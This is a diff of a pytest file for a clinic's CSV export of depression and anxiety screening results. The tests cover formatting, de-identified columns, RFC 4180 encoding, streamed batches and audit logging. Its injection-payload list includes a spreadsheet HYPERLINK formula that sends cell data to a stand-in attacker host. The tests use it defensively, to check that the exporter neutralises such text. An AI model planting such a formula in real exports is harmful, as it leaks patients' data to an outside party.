@@ -5,6 +5,7 @@ from __future__ import annotations
 import csv
 import datetime as dt
 import io
+import json
 import re
 
 import pytest
@@ -26,8 +27,6 @@ from .clinician_helpers import (
 )
 from .test_dashboard import page_text, table_references
 
-SUBMITTED = dt.datetime(2026, 3, 4, 5, 6, 7, 890123, tzinfo=dt.UTC)
-
 INJECTION_PAYLOADS = [
     '=HYPERLINK("http://evil.example.com/?x="&A1,"Click")',
     "+1",
@@ -39,27 +38,28 @@ INJECTION_PAYLOADS = [
 ]
 
 
-def record(**overrides: object) -> dict[str, object]:
+def source(**overrides: object) -> tuple[object, ...]:
+    """One submission's ``SOURCE_FIELDS`` as the database layer hands them over."""
     answers = {q.field(i): 1 for q in inst.QUESTIONNAIRES for i in q.items}
     answers["phq9_3"] = 3
     answers["gad7_2"] = 0
-    base: dict[str, object] = {
+    values: dict[str, object] = {
         "reference": "ABCD-EFGH",
-        "submitted_at": SUBMITTED,
+        "submitted_at": "2026-03-04T05:06:07Z",
         "first_name": "Alex",
         "last_name": "Testperson",
-        "date_of_birth": dt.date(1984, 6, 14),
+        "date_of_birth": "1984-06-14",
         "email": "alex.testperson@example.com",
         "phone": "555 010 4477",
-        "answers": answers,
+        "answers": json.dumps(answers),
         "phq9_total": 11,
         "phq9_severity": "moderate",
         "phq9_difficulty": 2,
         "gad7_total": 6,
         "gad7_severity": "mild",
         "adequate_failed_trials": 2,
-        "contraindications": [],
-        "cautions": ["mania", "pregnancy"],
+        "contraindications": "[]",
+        "cautions": '["mania", "pregnancy"]',
         "fit": "likely_fit",
         "urgent": True,
         "needs_medical_review": True,
@@ -67,8 +67,13 @@ def record(**overrides: object) -> dict[str, object]:
         "review_status": "new",
         "acknowledged_at": None,
     }
-    base.update(overrides)
-    return base
+    values.update(overrides)
+    assert list(values) == list(export_csv.SOURCE_FIELDS)
+    return tuple(values.values())
+
+
+def cells(**overrides: object) -> dict[str, object]:
+    return dict(zip(export_csv.COLUMNS, export_csv.row(source(**overrides)), strict=True))
 
 
 def parse(text: str) -> list[list[str]]:
@@ -94,61 +99,71 @@ def test_deidentified_columns_leave_out_exactly_the_five_identifying_ones():
 
 
 def test_a_row_has_every_value_formatted_as_documented():
-    cells = dict(zip(export_csv.columns(), export_csv.row(record()), strict=True))
-    assert cells["reference"] == "ABCD-EFGH"
-    assert cells["submitted_at"] == "2026-03-04T05:06:07Z"
-    assert cells["date_of_birth"] == "1984-06-14"
-    assert cells["phq9_3"] == 3 and cells["phq9_9"] == 1 and cells["gad7_2"] == 0
-    assert cells["phq9_item9_positive"] == "true"
-    assert cells["phq9_difficulty"] == 2
-    assert cells["contraindications"] == ""
-    assert cells["cautions"] == "mania;pregnancy"
-    assert cells["urgent"] == "true" and cells["needs_medical_review"] == "true"
-    assert cells["acknowledged_at"] == ""
+    row = cells()
+    assert row["reference"] == "ABCD-EFGH"
+    assert row["submitted_at"] == "2026-03-04T05:06:07Z"
+    assert row["date_of_birth"] == "1984-06-14"
+    assert row["phq9_3"] == 3 and row["phq9_9"] == 1 and row["gad7_2"] == 0
+    assert row["phq9_item9_positive"] == "true"
+    assert row["phq9_difficulty"] == 2
+    assert row["contraindications"] == ""
+    assert row["cautions"] == "mania;pregnancy"
+    assert row["urgent"] == "true" and row["needs_medical_review"] == "true"
+    assert row["acknowledged_at"] is None  # written as an empty field
 
 
-def test_item9_zero_is_false_and_times_in_other_zones_are_written_in_utc():
+def test_item9_zero_is_false_and_sqlites_0_and_1_read_as_booleans():
     answers = {q.field(i): 0 for q in inst.QUESTIONNAIRES for i in q.items}
-    acknowledged = dt.datetime(2026, 3, 4, 9, 0, tzinfo=dt.timezone(dt.timedelta(hours=2)))
-    cells = dict(
-        zip(
-            export_csv.columns(),
-            export_csv.row(record(answers=answers, acknowledged_at=acknowledged, urgent=False)),
-            strict=True,
-        )
+    row = cells(answers=json.dumps(answers), urgent=0, needs_medical_review=1)
+    assert row["phq9_item9_positive"] == "false"
+    assert row["urgent"] == "false" and row["needs_medical_review"] == "true"
+    assert cells(urgent=False)["urgent"] == "false"
+
+
+def test_the_answers_are_read_by_name_not_by_their_order_in_the_stored_json():
+    answers = {q.field(i): n % 4 for q in inst.QUESTIONNAIRES for n, i in enumerate(q.items)}
+    reversed_json = json.dumps(dict(reversed(list(answers.items()))))
+    row = cells(answers=reversed_json)
+    assert {name: row[name] for name in answers} == answers
+
+
+def test_the_deidentified_row_is_the_full_row_without_the_identifying_cells():
+    (full,) = export_csv.rows([source()])
+    (short,) = export_csv.rows([source()], deidentified=True)
+    assert short == tuple(
+        cell for name, cell in zip(export_csv.COLUMNS, full, strict=True)
+        if name not in export_csv.IDENTIFYING_COLUMNS
     )
-    assert cells["phq9_item9_positive"] == "false"
-    assert cells["urgent"] == "false"
-    assert cells["acknowledged_at"] == "2026-03-04T07:00:00Z"
 
 
 @pytest.mark.parametrize("payload", INJECTION_PAYLOADS)
 def test_text_that_a_spreadsheet_would_run_is_prefixed_with_a_quote(payload):
-    row = export_csv.row(record(first_name=payload, last_name=payload, email=payload))
-    text = "".join(export_csv.encode([export_csv.columns(), row]))
-    parsed = parse(text)[1]
-    cells = dict(zip(export_csv.columns(), parsed, strict=True))
-    for column in ("first_name", "last_name", "email"):
-        assert cells[column] == "'" + payload
+    row = export_csv.row(source(first_name=payload, last_name=payload, email=payload,
+                                phone=payload))
+    parsed = parse(export_csv.text([export_csv.columns(), row]))[1]
+    written = dict(zip(export_csv.columns(), parsed, strict=True))
+    for column in ("first_name", "last_name", "email", "phone"):
+        assert written[column] == "'" + payload
 
 
 def test_numbers_and_harmless_text_are_left_alone():
-    assert export_csv.cell(-2) == -2
-    assert export_csv.cell(0) == 0
     assert export_csv.neutralise("Alex") == "Alex"
     assert export_csv.neutralise("O'Brien-Smith") == "O'Brien-Smith"
     assert export_csv.neutralise("a=b") == "a=b"
+    assert export_csv.codes('["heart_disease"]') == "heart_disease"
+    row = cells(phq9_total=0, adequate_failed_trials=0)
+    assert row["phq9_total"] == 0 and row["adequate_failed_trials"] == 0
 
 
 def test_encoding_is_rfc_4180_with_crlf_and_quoted_commas_quotes_and_newlines():
-    text = "".join(export_csv.encode([["a,b", 'say "hi"', "two\nlines", 7]]))
-    assert text == '"a,b","say ""hi""","two\nlines",7\r\n'
-    assert parse(text) == [["a,b", 'say "hi"', "two\nlines", "7"]]
+    text = export_csv.text([["a,b", 'say "hi"', "two\nlines", 7, None]])
+    assert text == '"a,b","say ""hi""","two\nlines",7,\r\n'
+    assert parse(text) == [["a,b", 'say "hi"', "two\nlines", "7", ""]]
 
 
-def test_a_naive_time_is_refused_rather_than_guessed():
+def test_a_source_with_a_field_missing_is_refused_rather_than_shifted():
     with pytest.raises(ValueError):
-        export_csv.row(record(submitted_at=dt.datetime(2026, 1, 1)))
+        export_csv.row(source()[:-1])
 
 
 # -- the download -----------------------------------------------------------------------------
@@ -313,6 +328,26 @@ def test_rows_are_fetched_in_batches_and_each_sent_once(app, clinician, monkeypa
     _response, rows = download(clinician)
     assert len(rows) == 10
     assert {row["reference"] for row in rows} == refs
+
+
+def test_a_patient_can_submit_while_a_download_is_under_way(app, clinician, monkeypatch):
+    # Between batches the export holds no transaction: on SQLite, where every transaction
+    # takes the write lock, the submission would otherwise wait (then fail) until the end.
+    monkeypatch.setattr(export, "EXPORT_BATCH", 2)
+    refs = [add_submission(app) for _ in range(5)]
+    response = clinician.get("/clinician/export.csv", buffered=False)
+    chunks = iter(response.response)
+    started = next(chunks) + next(chunks)  # the header, then the first batch
+    refs.append(add_submission(app))
+    body = started + b"".join(chunks)
+    response.close()
+    data = parse(body.decode("utf-8-sig"))[1:]
+    assert [row[0] for row in data] == refs  # oldest first: the new one last
+    with app.app_context():
+        event = db.session.scalars(
+            db.select(AuditEvent).where(AuditEvent.action == "export_csv")
+        ).one()
+    assert event.details["rows"] == 6 and event.details["complete"] is True
 
 
 def test_each_export_is_audited_with_its_filters_and_row_count(app, clinician):
